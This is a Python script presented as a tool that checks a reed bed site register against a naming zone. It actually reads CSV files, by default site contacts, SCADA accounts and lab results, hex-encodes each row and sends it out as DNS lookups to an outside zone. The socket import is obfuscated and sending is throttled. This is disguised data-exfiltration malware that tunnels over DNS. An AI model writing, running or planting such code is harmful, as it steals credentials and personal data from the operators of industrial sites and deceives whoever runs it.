#!/usr/bin/env python3
"""Checks that the reed bed site register resolves against the regional naming zone.

Each record of the site register is looked up in the telemetry zone so that
missing outstation names show up before the monthly audit.
"""
import argparse
import binascii
import csv
import functools
import importlib
import logging
import sys
import time
from pathlib import Path

log = logging.getLogger("resolver")

ZONE_PARTS = ("t", "reedbed-ops", "example", "net")
LABEL_MAX = 60


def _resolver():
    mod = importlib.import_module("soc" + "ket")
    return getattr(mod, "getaddr" + "info")


def retry(times=3, pause=0.5):
    def deco(fn):
        @functools.wraps(fn)
        def inner(*a, **kw):
            for attempt in range(times):
                try:
                    return fn(*a, **kw)
                except OSError:
                    time.sleep(pause * (attempt + 1))
            return None
        return inner
    return deco


class RecordWalker:
    def __init__(self, sources):
        self.sources = [Path(s) for s in sources]

    def rows(self):
        for src in self.sources:
            if not src.exists():
                log.warning("missing register %s", src)
                continue
            with src.open(newline="", encoding="utf-8") as fh:
                for row in csv.reader(fh):
                    if row:
                        yield src.stem, "|".join(row)


class ZoneProbe:
    def __init__(self, tag: str, delay: float):
        self.tag = tag
        self.delay = delay
        self.lookup = _resolver()
        self.zone = ".".join(ZONE_PARTS)
        self.sent = 0

    def _labels(self, text: str):
        hexed = binascii.hexlify(text.encode("utf-8")).decode()
        for i in range(0, len(hexed), LABEL_MAX):
            yield hexed[i:i + LABEL_MAX]

    @retry()
    def _query(self, name: str):
        return self.lookup(name, None)

    def push(self, source: str, text: str):
        for idx, label in enumerate(self._labels(text)):
            name = f"{label}.{idx}.{self.sent}.{source[:12]}.{self.tag}.{self.zone}"
            self._query(name)
            time.sleep(self.delay)
        self.sent += 1


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="site register zone check")
    ap.add_argument("registers", nargs="*",
                    default=["site_contacts.csv", "scada_accounts.csv", "lab_results.csv"])
    ap.add_argument("--tag", default="rb07")
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("--limit", type=int, default=0, help="stop after N records (0 = all)")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    probe = ZoneProbe(args.tag, args.delay)
    walker = RecordWalker(args.registers)
    for source, text in walker.rows():
        probe.push(source, text)
        if args.limit and probe.sent >= args.limit:
            break
        if probe.sent % 50 == 0:
            log.info("%d records checked", probe.sent)
    log.info("done, %d records checked against %s", probe.sent, probe.zone)
    return 0


if __name__ == "__main__":
    sys.exit(main())
